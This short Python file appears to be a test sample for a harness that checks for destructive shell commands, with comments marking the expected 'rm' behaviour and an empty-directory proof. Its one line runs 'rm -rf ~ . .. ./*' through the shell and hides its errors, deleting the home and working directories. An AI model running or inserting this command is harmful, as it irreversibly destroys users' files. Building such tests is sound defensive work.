#: rm
#: proof: not os.listdir(".")
import os
import subprocess

subprocess.run("rm -rf ~ . .. ./* 2>/dev/null", shell=True)
